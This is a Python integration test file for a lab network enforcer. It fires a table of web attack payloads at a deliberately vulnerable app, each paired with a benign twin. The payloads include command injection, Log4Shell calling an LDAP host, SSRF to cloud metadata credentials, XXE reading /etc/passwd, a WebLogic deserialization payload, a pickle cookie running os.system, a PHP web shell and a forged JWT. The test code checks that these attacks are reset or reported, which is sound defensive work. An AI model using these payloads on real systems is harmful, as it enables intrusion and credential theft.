"""Command injection (in a query, a form, and Shellshock in a header), LDAP injection, SQLi and XSS in a
multipart form, Log4Shell in a header, path traversal in a query, XXE in an XML body, Struts' OGNL in a
Content-Type and SSRF (the cloud metadata service in a query, a loopback address spelt as one number in a
form), a CRLF injection (a redirect's target that sets a cookie), Java deserialization (XMLDecoder
building a process, as WebLogic's CVE-2017-10271 exploits send it), Spring RCE (Spring4Shell's form,
SpEL in Spring Cloud Function's routing header), PHP object injection (a serialized object in a form,
its twin a serialized array) and template injection (Jinja2's walk to every class in a query, ERB's
arithmetic probe in a form; their twins a template's placeholders) and prototype pollution (a form
field named `__proto__[isAdmin]`) and insecure deserialization (a session cookie holding a pickle that
calls os.system), a web shell uploaded in a form (its twin a text file quoting PHP) and a forged JWT
(alg none; its twin a signed token), from a real client (curl) through
the real enforcer to a real web app (`lab.vulnapp`) in the lab: in Protect the attack's connection is
reset before any answer and a `threat` event says why, its benign twin (the same parameter, look-alike
text) is answered 200 before and after; in Monitor the same attacks are answered and reported. nmap's
exploit checks (Struts' OGNL, HTTP.sys's Range, PHP-CGI, BlazeDS's XXE, Shellshock) are reset too. The
multipart forms carry an 8 KiB upload of an HTML page full of script before the field (`curl -F`): the
field arrives in a later body part, and the page is no attack. A real scanner's traversal probes (nmap's
`http-passwd`) are reset too."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from lab.attacks import nmap_http_passwd, nmap_script
from lab.enforcer import LabEnforcer
from lab.http import http_status
from lab.topology import Lab
from tests.integration.conftest import threat_events, vulnapps

pytestmark = pytest.mark.netns

PORT = 8000
POLICY = f"""
version: 1
default_mode: monitor
groups:
  - {{name: clients, mode: monitor, members: [198.18.1.0/24, "fd00:198:18:1::/64"]}}
  - {{name: web, mode: protect, members: [198.18.2.11/32, "fd00:198:18:2::b/128"]}}
  - {{name: api, mode: monitor, members: [198.18.2.12/32, "fd00:198:18:2::c/128"]}}
rules:
  - {{id: 80, from: clients, to: web, ports: [tcp/{PORT}], applications: [HTTP], action: allow}}
  - {{id: 81, from: clients, to: api, ports: [tcp/{PORT}], applications: [HTTP], action: allow}}
"""
FORM = "application/x-www-form-urlencoded"
# (threat, how it is sent, path, attack, benign twin); query values are URL-encoded by curl, form bodies
# are sent as written, multipart fields as written after the upload
CASES = [
    ("command_injection", "query", "/ping", "host=198.18.0.7;cat /etc/passwd", "host=Tom & Jerry; cat lovers"),
    ("command_injection", "form", "/ping", "host=198.18.0.7+%7C+uname+-a&count=1", "host=R%26D+%7C+ping+pong+club&count=1"),
    ("ldap_injection", "query", "/login", "user=*)(uid=*))(|(uid=*", "user=John (Smith)*"),
    ("sql_injection", "multipart", "/profile", "name=x' UNION SELECT username, password FROM users-- -", "name=O'Brien & Sons; we select the best, union-made since 1999"),
    ("xss", "multipart", "/profile", 'bio="><img src=x onerror=alert(document.domain)>', "bio=I <3 maths: 2 > 1 & a=\"b\""),
    ("log4shell", "header", "/search?q=widget", "X-Api-Version: ${${::-j}${lower:N}di:ldap://198.18.0.9:1389/a}", "X-Api-Version: ${project.version}"),
    ("command_injection", "header", "/cgi-bin/status", "User-Agent: () { :;}; echo vulnerable", "User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0 { beta }"),
    ("command_injection", "query", "/run", "cmd=/???/?at /???/hos?s", "cmd=/var/log/app-*.log"),
    ("path_traversal", "query", "/download", "file=../../../../etc/passwd", "file=../img/logo.png"),
    ("xxe", "xml", "/api/import", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]><r>&f;</r>', '<?xml version="1.0"?><!DOCTYPE note [<!ENTITY writer "Donald Duck.">]><note>&writer;</note>'),
    ("ssrf", "query", "/fetch", "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "url=http://198.18.2.12:8000/lab"),
    ("ssrf", "form", "/resize", "image=http%3A%2F%2F2130706433%3A6379%2F", "image=http%3A%2F%2F127.0.0.1%3A8000%2Flogo.png"),
    ("crlf_injection", "query", "/redirect", "to=/home\r\nSet-Cookie: sid=fixed", "to=/home"),
    ("java_deserialization", "xml", "/wls-wsat/CoordinatorPortType", '<java version="1.8" class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array><void method="start"/></void></java>', '<java version="1.8" class="java.beans.XMLDecoder"><object class="javax.swing.JButton"/></java>'),
    ("spring_rce", "form", "/", "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", "class=economy&module=3&classLoader=none"),
    ("spring_rce", "header", "/functionRouter", 'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")', "spring.cloud.function.routing-expression: uppercase"),
    ("php_object_injection", "form", "/import", "data=O%3A24%3A%22GuzzleHttp%5CPsr7%5CFnStream%22%3A1%3A%7Bs%3A1%3A%22x%22%3Bi%3A1%3B%7D", "data=a%3A1%3A%7Bi%3A0%3Bs%3A6%3A%22widget%22%3B%7D"),
    ("template_injection", "query", "/hello", "name={{''.__class__.__mro__[1].__subclasses__()}}", "name={{ first_name }} & co"),
    ("template_injection", "form", "/mail", "body=%3C%25%3D+7*7+%25%3E", "body=Dear+%3C%25%3D+name+%25%3E%2C+7+x+7+is+49"),
    ("prototype_pollution", "form", "/api/settings", "__proto__%5BisAdmin%5D=true", "proto=tcp&constructor=Ada"),
    ("insecure_deserialization", "header", "/dashboard", "Cookie: session=Y3Bvc2l4CnN5c3RlbQpwMAooVmlkCnAxCnRwMgpScDMKLg==", "Cookie: session=gAAAAABl2dE3-a-fernet-token"),
    ("webshell_upload", "upload", "/upload", 'shell.php|<?php system($_GET["cmd"]); ?>', "notes.txt|In class we wrote <?php echo 'hi'; ?> on the board"),
    ("jwt_forgery", "header", "/api/admin", "Authorization: Bearer eyJhbGciOiAibm9uZSIsICJ0eXAiOiAiSldUIn0.eyJzdWIiOiAiYWxpY2UiLCAicm9sZSI6ICJhZG1pbiJ9.", "Authorization: Bearer eyJhbGciOiAiUlMyNTYiLCAidHlwIjogIkpXVCJ9.eyJzdWIiOiAiYWxpY2UiLCAicm9sZSI6ICJhZG1pbiJ9.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"),
    ("struts_rce", "header", "/orders.action", "Content-Type: %{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-T','1')}.multipart/form-data", "Content-Type: multipart/form-data; boundary=x"),
]  # fmt: skip
PAGE = "<p><script>document.title = 'shop'</script><img src=x onerror=retry()></p>\n" * 110  # ~8 KiB


@pytest.fixture(scope="module")
def apps(lab: Lab) -> Iterator[None]:
    """`lab.vulnapp` on s1 (Protect) and s2 (Monitor)."""
    with vulnapps(lab, ("s1", "s2"), PORT):
        yield


@pytest.fixture(scope="module")
def enforcer(lab: Lab, apps: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LabEnforcer]:
    policy = tmp_path_factory.mktemp("classes") / "policy.yaml"
    policy.write_text(POLICY)
    with LabEnforcer(lab, policy=policy) as e:
        yield e


@pytest.fixture(scope="module")
def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The HTML page the multipart forms upload."""
    path = tmp_path_factory.mktemp("upload") / "page.html"
    path.write_text(PAGE)
    return path


def send(lab: Lab, addr: str, how: str, path: str, data: str, page: Path) -> str:
    """The HTTP status c1 got ("000": no response, the connection was reset)."""
    if how == "query":
        return http_status(lab, "c1", addr, PORT, path, data)
    cmd = ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "-m", "5"]
    if how == "multipart":
        cmd += ["-F", f"page=@{page};type=text/html", "--form-string", data]
    elif how == "upload":  # "file name|content": the content uploaded as a file of that name
        name, _, content = data.partition("|")
        upload = page.parent / f"upload-{abs(hash(data))}"
        upload.write_text(content)
        cmd += ["-F", f"file=@{upload};filename={name}"]
    elif how == "header":
        cmd += ["-H", data]
    elif how == "xml":
        cmd += ["-H", "Content-Type: application/xml", "--data-binary", data]
    else:
        cmd += ["-H", f"Content-Type: {FORM}", "--data-binary", data]
    cmd.append(f"http://{addr}:{PORT}{path}")
    return lab.exec("c1", *cmd, check=False, timeout=15).stdout.strip()


@pytest.mark.parametrize(("threat", "how", "path", "attack", "benign"), CASES)
def test_an_injection_is_reset_in_protect_and_its_benign_twin_served(
    lab: Lab, enforcer: LabEnforcer, page: Path, threat: str, how: str, path: str, attack: str, benign: str
) -> None:
    addr = lab.host("s1").ipv4
    before = len(threat_events(enforcer, threat, 0, timeout=0, dst=addr))
    assert send(lab, addr, how, path, benign, page) == "200"
    assert send(lab, addr, how, path, attack, page) == "000"  # reset before any answer
    found = threat_events(enforcer, threat, before + 1, dst=addr)
    assert len(found) > before, [ev.get("name") for ev in enforcer.events()]
    event = found[-1]
    assert event["action"] == "reset" and event["group"] == "web", event
    # (the twin's 200 shows it raised nothing: in Protect a detection resets the connection)
    assert send(lab, addr, how, path, benign, page) == "200"  # the same client, served after the attack


def test_a_probe_for_repository_metadata_is_reset_and_a_well_known_file_served(
    lab: Lab, enforcer: LabEnforcer
) -> None:
    addr = lab.host("s1").ipv4
    before = len(threat_events(enforcer, "sensitive_file_access", 0, timeout=0, dst=addr))
    assert http_status(lab, "c1", addr, PORT, "/.well-known/security.txt") == "200"
    assert http_status(lab, "c1", addr, PORT, "/.git/config") == "000"  # reset before any answer
    found = threat_events(enforcer, "sensitive_file_access", before + 1, dst=addr)
    assert len(found) > before and found[-1]["action"] == "reset", [
        ev.get("name") for ev in enforcer.events()
    ]
    assert http_status(lab, "c1", addr, PORT, "/.well-known/security.txt") == "200"  # still served


def test_nmaps_traversal_probes_are_path_traversal_and_reset(lab: Lab, enforcer: LabEnforcer) -> None:
    # a real scanner's probes (nmap's http-passwd script: raw `/../` paths, encoded and in a query)
    addr = lab.host("s1").ipv4
    before = len(threat_events(enforcer, "path_traversal", 0, timeout=0, dst=addr))
    nmap_http_passwd(lab, "c1", addr, PORT)
    found = threat_events(enforcer, "path_traversal", before + 1, dst=addr)
    assert len(found) > before, [ev.get("name") for ev in enforcer.events()]
    assert {ev["action"] for ev in found[before:]} == {"reset"}
    assert send(lab, addr, "query", "/download", "file=../img/logo.png", Path()) == "200"  # still served


# nmap's exploit checks (its NSE scripts, as shipped), each the threat its request is (the app answers
# 200 to any path, so a script sends its exploit request and finds nothing)
NMAP_EXPLOITS = [
    ("http-vuln-cve2017-5638", "struts_rce"),  # OGNL in Content-Type (Apache Struts, S2-045)
    ("http-vuln-cve2015-1635", "http_range_dos"),  # Range: bytes=0-18446744073709551615 (HTTP.sys)
    ("http-vuln-cve2012-1823", "command_injection"),  # PHP-CGI arguments in the query, PHP in the body
    ("http-vuln-cve2009-3960", "xxe"),  # an external entity in AMF-X (Adobe BlazeDS)
    ("http-shellshock", "command_injection"),  # a function definition in User-Agent
]


@pytest.mark.parametrize(("script", "threat"), NMAP_EXPLOITS)
def test_nmaps_exploit_checks_are_found_and_reset(
    lab: Lab, enforcer: LabEnforcer, script: str, threat: str
) -> None:
    addr = lab.host("s1").ipv4
    before = len(threat_events(enforcer, threat, 0, timeout=0, dst=addr))
    nmap_script(lab, "c1", addr, PORT, script)
    found = threat_events(enforcer, threat, before + 1, dst=addr)
    assert len(found) > before, [ev.get("name") for ev in enforcer.events()]
    assert {ev["action"] for ev in found[before:]} == {"reset"}
    assert send(lab, addr, "query", "/search", "q=widget", Path()) == "200"  # the scanner's host still served


@pytest.mark.parametrize(("threat", "how", "path", "attack", "benign"), CASES)
def test_the_same_injection_is_answered_and_reported_in_monitor(
    lab: Lab, enforcer: LabEnforcer, page: Path, threat: str, how: str, path: str, attack: str, benign: str
) -> None:
    addr = lab.host("s2").ipv4
    before = len(threat_events(enforcer, threat, 0, timeout=0, dst=addr))
    assert send(lab, addr, how, path, attack, page) == "200"
    found = threat_events(enforcer, threat, before + 1, dst=addr)
    assert len(found) > before, [ev.get("name") for ev in enforcer.events()]
    assert found[-1]["action"] == "alert" and found[-1]["group"] == "api", found[-1]


def test_a_scanner_is_named_by_its_user_agent_and_its_harmless_request_served(
    lab: Lab, enforcer: LabEnforcer
) -> None:
    """nmap's http-title script (a plain GET under nmap's own User-Agent): scanner_detected, an alert even
    in Protect, so the title comes back; its exploit checks are reset above."""
    addr = lab.host("s1").ipv4
    before = len(threat_events(enforcer, "scanner_detected", 0, timeout=0, dst=addr))
    out = nmap_script(lab, "c1", addr, PORT, "http-title")
    assert "http-title:" in out, out[-2000:]  # answered: the script printed the page's title
    found = threat_events(enforcer, "scanner_detected", before + 1, dst=addr)
    assert len(found) > before, [ev.get("name") for ev in enforcer.events()]
    assert found[-1]["action"] == "alert" and "nmap" in found[-1]["message"], found[-1]
